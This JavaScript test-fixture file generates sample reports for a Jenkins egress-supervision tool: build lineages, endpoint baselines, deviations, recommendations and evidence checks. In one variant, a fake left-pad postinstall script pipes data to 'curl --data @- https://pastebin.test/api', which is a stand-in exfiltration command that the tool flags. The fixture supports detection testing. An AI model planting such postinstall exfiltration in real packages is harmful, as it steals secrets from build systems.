// Reports with a baseline, a job after many builds, and all jobs of a controller, as docs/baseline.md has them.

const START = Date.UTC(2026, 10, 23, 9, 0, 0);
const HOUR = 3600000;
export const at = ms => new Date(START + ms).toISOString();
const CWD = '/home/jenkins/agent/workspace/shop';

const image = (id, parent, argv, exe = `/usr/bin/${argv[0]}`, cwd = CWD, extra = {}) => ({id, parent, pid: 4000 + Number(id.split(':')[1]), exe, argv, cwd, launch: id.split(':')[0], ...extra});

function wrapped(launch, folder, commands) {
  const script = `/home/jenkins/agent/workspace/shop@tmp/durable-${folder}`;
  const shell = `(cp '${script}/script.sh' '${script}/script.sh.copy'; { while [ -d '${script}' -a \\! -f '${script}/jenkins-result.txt' ]; do touch '${script}/jenkins-log.txt'; sleep 3; done } & jsc=durable-1f; JENKINS_SERVER_COOKIE=$jsc 'sh' -xe '${script}/script.sh.copy' > '${script}/jenkins-log.txt' 2>&1; echo $? > '${script}/jenkins-result.txt.tmp'; mv '${script}/jenkins-result.txt.tmp' '${script}/jenkins-result.txt'; wait) >&- 2>&- &`;
  return [
    image(`${launch}:1`, `${launch}:0`, ['nohup', 'sh', '-c', shell]), image(`${launch}:2`, `${launch}:1`, ['sh', '-c', shell], '/usr/bin/dash'),
    image(`${launch}:3`, `${launch}:2`, ['cp', `${script}/script.sh`, `${script}/script.sh.copy`]), image(`${launch}:4`, `${launch}:2`, ['touch', `${script}/jenkins-log.txt`]),
    image(`${launch}:5`, `${launch}:2`, ['sh', '-xe', `${script}/script.sh.copy`], '/usr/bin/dash'), image(`${launch}:6`, `${launch}:2`, ['sleep', '3']), ...commands,
  ];
}

/** A build of a Node shop: install, test, publish. `deviating`: left-pad's new postinstall script posts to pastebin.test. */
export function shop({deviating = false, state = 'stable', builds = 5, seen = 23} = {}) {
  const processes = [
    ...wrapped('l-1', '6f1d2c3a', [
      image('l-1:7', 'l-1:5', ['npm', 'ci'], '/usr/bin/node'),
      image('l-1:8', 'l-1:7', ['sh', '-c', 'node install.js'], '/usr/bin/dash', `${CWD}/node_modules/esbuild`, {package: 'esbuild', script: 'postinstall'}),
      image('l-1:9', 'l-1:8', ['node', 'install.js'], '/usr/bin/node', `${CWD}/node_modules/esbuild`, {package: 'esbuild', script: 'postinstall'}),
      ...deviating ? [image('l-1:10', 'l-1:7', ['sh', '-c', 'curl -s --data @- https://pastebin.test/api'], '/usr/bin/dash', `${CWD}/node_modules/left-pad`, {package: 'left-pad', script: 'postinstall'}),
        image('l-1:11', 'l-1:10', ['curl', '-s', '--data', '@-', 'https://pastebin.test/api'], '/usr/bin/curl', `${CWD}/node_modules/left-pad`, {package: 'left-pad', script: 'postinstall'})] : [],
    ]),
    ...wrapped('l-2', 'b90d11e2', [image('l-2:7', 'l-2:5', ['npm', 'test'], '/usr/bin/node'), image('l-2:8', 'l-2:7', ['node', '--test', 'test/'], '/usr/bin/node')]),
    ...wrapped('l-3', '04c7aa18', [image('l-3:7', 'l-3:5', ['npm', 'publish', '--dry-run'], '/usr/bin/node')]),
  ];
  const byId = new Map(processes.map(process => [process.id, process]));
  const lineage = (id, leaf, step, stage, extra = {}) => {
    const chain = [];
    for (let process = byId.get(leaf); process; process = byId.get(process.parent)) chain.push({id: process.id, pid: process.pid, exe: process.exe, argv: process.argv, cwd: process.cwd});
    return {id, processes: chain, step, stage, launch: leaf.split(':')[0], ...extra};
  };
  const lineages = [
    lineage('a', 'l-1:7', 'sh (11)', 'Install'), lineage('b', 'l-1:9', 'sh (11)', 'Install', {package: 'esbuild', packageVersion: '0.25.9', script: 'postinstall'}),
    ...deviating ? [lineage('c', 'l-1:11', 'sh (11)', 'Install', {package: 'left-pad', packageVersion: '1.3.1', script: 'postinstall'})] : [],
    lineage('d', 'l-2:8', 'sh (17)', 'Test'), lineage('e', 'l-3:7', 'sh (23)', 'Publish'),
  ];
  const row = (name, address, count, from, to, id, baseline, extra = {}) => ({name, address, port: 443, protocol: 'tcp', verdict: 'allowed', rule: 'step-1', count,
    firstSeen: at(from), lastSeen: at(to), lineages: [id], baseline, ...extra});
  const lacking = state === 'creating' ? 'learning' : 'known';
  const endpoints = [
    row('registry.test', '192.0.2.10', 212, 820, 9310, 'a', lacking),
    row('downloads.registry.test', '192.0.2.11', 3, 6120, 7410, 'b', lacking, {rule: 'step-2'}),
    row('api.shop.test', '192.0.2.40', 18, 14200, 21800, 'd', state === 'creating' ? lacking : 'accepted', {rule: 'folder-1'}),
    ...deviating ? [row('pastebin.test', '198.51.100.7', 1, 8020, 8020, 'c', 'new', {verdict: 'would-block', rule: 'default', deviation: '9f2c41d07ab35e18'})] : [],
    row('registry.test', '192.0.2.10', 2, 27400, 27900, 'e', lacking),
  ];
  const message = 'pastebin.test:443 is new: curl of left-pad@1.3.1 (postinstall) contacted it, and no earlier build of this block did';
  return {
    schema: 1, tool: {name: 'harden-runner', version: '0.1.0'}, state: 'enforced', degraded: [], verdict: deviating ? 'deviates' : 'ok',
    command: byId.get('l-1:1').argv, cwd: CWD, started: at(0), ended: at(29000), exitCode: 0, launches: 3,
    launchDetails: [['l-1', 'sh (11)', 'Install', 0], ['l-2', 'sh (17)', 'Test', 12400], ['l-3', 'sh (23)', 'Publish', 26800]].map(([id, step, stage, from]) => ({
      id, step, stage, node: 'agent-7', command: byId.get(`${id}:1`).argv, cwd: CWD, started: at(from), ended: at(from + 12), exitCode: 0, state: 'enforced',
      kernel: '6.12.48', arch: 'x86_64', uid: 1000, events: 140, dropped: 0})),
    endpoints, lineages, processes,
    files: [
      {path: `${CWD}/package-lock.json`, operation: 'write', verdict: 'allowed', rule: 'protected', tracked: true, count: 1, firstSeen: at(9400), lastSeen: at(9400), lineages: ['a'],
        before: 'blob:5d1f0c', after: 'blob:77ab90', diff: '--- a/package-lock.json\n+++ b/package-lock.json\n@@ -1,4 +1,4 @@\n {\n-  "lockfileVersion": 2,\n+  "lockfileVersion": 3,\n   "name": "shop",\n', baseline: state === 'creating' ? 'learning' : 'accepted'},
      {path: `${CWD}/node_modules/esbuild/bin/esbuild`, operation: 'write', verdict: 'allowed', rule: 'default', tracked: false, count: 2, firstSeen: at(7600), lastSeen: at(7700), lineages: ['b']},
      {path: `${CWD}/coverage/lcov.info`, operation: 'create', verdict: 'allowed', rule: 'default', tracked: false, count: 1, firstSeen: at(21900), lastSeen: at(21900), lineages: ['d']},
    ],
    fileSummary: {written: 1204, created: 1190, removed: 12, renamed: 31, listed: 3, omitted: 1201},
    findings: deviating ? [
      {kind: 'baseline-deviation', severity: 'medium', message, explanation: 'The baseline of this job’s branch main is stable since build #6 and does not have this endpoint. The package was left-pad@1.3.0 until the last build and had no postinstall script.',
        remedy: "If it is meant, accept it on this page, or add it: allowedEndpoints: ['pastebin.test:443'] or --allow 'pastebin.test:443'.", evidence: {lineages: ['c'], endpoint: 'pastebin.test:443', rule: 'default', deviation: '9f2c41d07ab35e18'}},
      {kind: 'egress-would-block', severity: 'low', message: 'pastebin.test:443 is not allowed by the policy and was reached', explanation: "No allow rule matches; egress policy 'audit' of step.",
        remedy: "If it is meant, add it: allowedEndpoints: ['pastebin.test:443'] or --allow 'pastebin.test:443'.", evidence: {lineages: ['c'], endpoint: 'pastebin.test:443', rule: 'default'}},
    ] : [],
    policy: {egressPolicy: 'audit', filePolicy: 'audit', credentialPolicy: 'audit', loopback: 'allow', metadata: 'deny',
      rules: [{id: 'step-1', action: 'allow', endpoint: 'registry.test:443', origin: 'step, allowedEndpoints'}, {id: 'step-2', action: 'allow', endpoint: '*.registry.test:443', origin: 'step, allowedEndpoints'},
        {id: 'folder-1', action: 'allow', endpoint: 'api.shop.test:443', origin: 'folder team, policy shop'}],
      trace: [{setting: 'egressPolicy', value: 'audit', origin: 'step', overruled: []}], sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'},
    recommendation: {allowedEndpoints: [{endpoint: 'registry.test:443', count: 214}, {endpoint: '*.registry.test:443', count: 3}, {endpoint: 'api.shop.test:443', count: 18}], text: 'registry.test:443\n*.registry.test:443\napi.shop.test:443\n',
      jenkinsfile: "hardenRunner(\n    egressPolicy: 'block',\n    allowedEndpoints: [\n        'registry.test:443',\n        '*.registry.test:443',\n        'api.shop.test:443'\n    ]) {\n    // …\n}\n", jcasc: 'security:\n  hardenRunner:\n    policies:\n      - name: shop\n        allowedEndpoints:\n          - registry.test:443\n          - "*.registry.test:443"\n          - api.shop.test:443\n'},
    coverage: [{subject: 'Processes started by sh', covered: 'yes', note: 'Three launches.'}, {subject: 'checkout scm', covered: 'no', note: 'The git plugin runs git in the agent, outside of the block.'}],
    integrity: {intact: true, problems: [], chainHeads: ['l-1', 'l-2', 'l-3'].map((launch, i) => ({launch, events: 140, hash: 'ab12'.repeat(15) + i}))},
    truncated: false, dropped: 0, redactions: 2,
    baseline: {block: 'default', job: 'team/shop/main', role: 'own', state, builds, required: 5, revision: seen, teaches: state === 'creating', why: state === 'creating' ? '' : 'The baseline is complete.',
      counts: {new: deviating ? 1 : 0, learning: 0, known: 3, accepted: 2, unwanted: 0, gone: deviating ? 1 : 0},
      gone: deviating ? [{kind: 'endpoint', protocol: 'tcp', host: 'fonts.test', port: 443, id: '00aa00aa00aa00aa', lastSeen: at(-26 * HOUR), lastBuild: 24}] : []},
    deviations: deviating ? [{kind: 'endpoint', protocol: 'tcp', host: 'pastebin.test', port: 443, id: '9f2c41d07ab35e18', label: 'pastebin.test:443', actions: ['accept', 'unwanted'], firstSeen: at(8020), lastSeen: at(8020), builds: 1, lineages: ['c'], message, explanation: ''}] : [],
  };
}

const hex = n => (n * 2654435761 >>> 0).toString(16).padStart(16, '0');

/** The data of a job page after `n` builds: five to learn, a deviation that was accepted, one that waits. */
export function job(n = 30, {mayReview = true} = {}) {
  const trend = Array.from({length: n}, (_, i) => {
    const number = i + 1;
    const last = number === n;
    const tampered = number === Math.round(n * 0.6);
    const fresh = number > 5 && number === Math.round(n * 0.45) || last ? 1 : 0;
    return {n: number, t: at((number - n) * 7 * HOUR), result: tampered ? 'FAILURE' : fresh ? 'UNSTABLE' : 'SUCCESS', verdict: tampered ? 'violated' : fresh ? 'deviates' : 'ok',
      state: number === Math.round(n * 0.75) ? 'degraded' : 'enforced', blocks: [{id: hex(number), name: 'default'}], launches: 3, endpoints: (number < 8 ? 3 : 4) + number % 7 % 2 + fresh,
      new: fresh, blocked: tampered ? 2 : 0, files: tampered ? 2 : 1, findings: tampered ? 3 : fresh, deviations: fresh};
  });
  const entry = (i, host, programs, count, extra = {}) => ({kind: 'endpoint', protocol: 'tcp', host, port: 443, id: hex(100 + i), programs, firstSeen: at((1 - n) * 7 * HOUR), firstBuild: 1,
    lastSeen: at(0), lastBuild: n, count, status: 'learned', ...extra});
  const by = (user, build, comment, until) => ({status: 'accepted', accepted: {by: user, time: at((build - n) * 7 * HOUR + HOUR), comment, ...until ? {until} : {}}});
  return {
    schema: 1, job: {name: 'team/shop/main', displayName: 'team » shop » main', url: '/jenkins/job/team/job/shop/job/main/'}, mayReview, baselineOf: null,
    settings: {required: 5, unstableBuilds: 10}, revision: 17,
    blocks: [{name: 'default', state: 'unstable', builds: 5, seen: n,
      entries: [entry(1, 'registry.test', ['npm', 'node'], n), entry(2, 'downloads.registry.test', ['node (esbuild postinstall)'], n - 2),
        entry(3, 'api.shop.test', ['node'], n - 7, {firstBuild: 8, ...by('mara', 14, 'The new order service, SHOP-812')}),
        entry(4, '*.cdn.test', ['*'], 11, {...by('jonas', 15, 'Browser downloads, until the mirror is there', '2026-12-31'), firstBuild: 15}),
        entry(5, 'fonts.test', ['node'], 9, {lastBuild: n - 1, lastSeen: at(-26 * HOUR), status: 'expired', accepted: {by: 'jonas', time: at(-90 * HOUR), comment: 'Only for the redesign', until: '2026-11-20'}}),
        {kind: 'file', path: 'package-lock.json', id: hex(120), programs: ['npm'], firstSeen: at(-80 * HOUR), firstBuild: 12, lastSeen: at(0), lastBuild: n, count: n - 12, ...by('mara', 12, 'npm rewrites it')}],
      deviations: [{kind: 'endpoint', protocol: 'tcp', host: 'pastebin.test', port: 443, id: '9f2c41d07ab35e18', label: 'pastebin.test:443', actions: ['accept', 'unwanted'], programs: ['curl (left-pad postinstall)', 'node'], firstSeen: at(8020), lastSeen: at(8020), builds: 1, firstBuild: n, lastBuild: n},
        {kind: 'program', protocol: 'tcp', host: 'registry.test', port: 443, program: 'curl (left-pad postinstall)', id: '1b7700e19cc4aa02', label: 'curl (left-pad postinstall) → registry.test:443', actions: ['accept'], firstSeen: at(-7 * HOUR), lastSeen: at(8020), builds: 2, firstBuild: n - 1, lastBuild: n}],
      unwanted: [{id: hex(130), endpoint: 'telemetry.test:443', by: 'mara', time: at(-60 * HOUR), comment: 'No usage data to third parties'}]}],
    changelog: [['accept', 'jonas', -90, 'fonts.test:443', 'Only for the redesign', n - 13], ['unwanted', 'mara', -60, 'telemetry.test:443', 'No usage data to third parties', n - 9],
      ['accept', 'mara', -112, 'api.shop.test:443', 'The new order service, SHOP-812', 14], ['learned', 'SYSTEM', -175, '4 endpoints, 1 file', '', 5]]
      .map(([action, user, hours, subject, comment, build]) => ({time: at(hours * HOUR), user, action, block: 'default', subject, comment, build})),
    trend,
  };
}

/** What the job page recommends for its last ten builds. */
export function recommendation() {
  const entry = (endpoint, count, builds, extra = {}) => ({endpoint, count, builds, firstSeen: at(-63 * HOUR), lastSeen: at(0), ...extra});
  return {
    schema: 1, block: 'default', blocks: ['default'], builds: Array.from({length: 10}, (_, i) => ({n: 21 + i, t: at((i - 9) * 7 * HOUR)})), missing: [19],
    entries: [entry('*.cdn.test:443', 31, 9, {collapsed: ['c1.cdn.test', 'c2.cdn.test', 'c7.cdn.test', 'c9.cdn.test']}), entry('api.shop.test:443', 180, 10),
      entry('pastebin.test:443', 1, 1, {note: 'new to the baseline, waits for a review', risk: 'exfil-capable (paste site)'}), entry('registry.test:443', 2140, 10)],
    text: '*.cdn.test:443\napi.shop.test:443\nregistry.test:443\n', jenkinsfile: "hardenRunner(\n    egressPolicy: 'block',\n    allowedEndpoints: [\n        '*.cdn.test:443', // 31 times in 9 of 10 builds\n    ]\n) {\n}\n",
    jcasc: 'security:\n  hardenRunner:\n    policies:\n      - name: "team-shop-main"\n', github: 'egress-policy: block\nallowed-endpoints: >\n  *.cdn.test:443\n',
  };
}

/** What a controller finds of a block's sealed evidence; `altered`: somebody changed a file. */
export function verification({altered = false} = {}) {
  const check = (subject, result, detail) => ({subject, result, detail});
  return {schema: 1, checked: '2026-11-23T12:00:00Z', sealed: '2026-11-23T09:00:30Z', keys: ['SHA256:47DEQpj8HBSa'], holds: !altered, checks: [check('seal', 'holds', 'of team/shop #30, block 0123456789abcdef, made 2026-11-23T09:00:30Z'),
    check('signature', 'holds', 'of SHA256:47DEQpj8HBSa'), check('report.json.gz', altered ? 'fails' : 'holds', altered ? 'it has 912 bytes; sealed were 20451' : 'SHA-256 ab12'),
    check('l-1.events.gz', 'unknown', 'it was removed on 2026-11-23T10:00:00Z, when its time was over'), check('launch l-2', 'holds', '140 events, in order, head ab12')]};
}

/** All jobs of a controller: `n` of them, most never supervised. */
export function jobs(n = 2000) {
  const names = ['shop', 'billing', 'mobile', 'search', 'docs', 'infra', 'gateway', 'reports'];
  const list = Array.from({length: n}, (_, i) => {
    const name = `team-${i % 40}/${names[i % names.length]}-${Math.floor(i / 40)}`;
    const base = {name, displayName: name.replaceAll('/', ' » '), url: `/jenkins/job/${name.replace('/', '/job/')}/`, supervision: i % 16 === 3 ? 'not-supervised' : i % 5 ? 'never' : 'supervised'};
    if (base.supervision === 'never') return base;
    const deviations = i % 65 === 0 ? 1 + i % 3 : 0;
    const verdict = base.supervision === 'not-supervised' ? 'not-supervised' : i % 250 === 0 ? 'violated' : deviations ? 'deviates' : 'ok';
    const state = base.supervision === 'not-supervised' ? 'off' : i % 90 === 0 ? 'degraded' : 'enforced';
    return {...base, state, verdict, baseline: base.supervision === 'not-supervised' ? 'none' : i % 35 === 0 ? 'creating' : i % 45 === 0 ? 'unstable' : 'stable', deviations, changeRequest: i % 30 === 5,
      last: {n: 20 + i % 60, t: at(-(i % 500) * HOUR / 3), result: verdict === 'violated' ? 'FAILURE' : 'SUCCESS', verdict, state, blocks: [{id: hex(i), name: 'default'}], launches: 2, endpoints: 3 + i % 9, new: deviations, blocked: verdict === 'violated' ? 1 : 0, files: 0, findings: deviations, deviations}};
  });
  const count = test => list.filter(test).length;
  return {
    schema: 1, generated: at(0), totals: {jobs: n, supervised: count(job => job.supervision === 'supervised'), notSupervised: count(job => job.supervision === 'not-supervised'), never: count(job => job.supervision === 'never'),
      creating: count(job => job.baseline === 'creating'), stable: count(job => job.baseline === 'stable'), unstable: count(job => job.baseline === 'unstable'), deviations: count(job => job.deviations > 0),
      violated: count(job => job.verdict === 'violated'), degraded: count(job => job.state === 'degraded')},
    jobs: list,
    agents: [{name: 'agent-old-3', state: 'degraded', missing: [{protection: 'landlock', reason: 'kernel 5.10 has no Landlock'}], job: 'team-0/shop-0', n: 23, t: at(-HOUR), jobs: 4},
      {name: 'container-builder', state: 'off', missing: [{protection: 'seccomp', reason: 'the container’s seccomp profile refuses the listener'}], job: 'team-5/infra-2', n: 7, t: at(-5 * HOUR), jobs: 1}],
  };
}
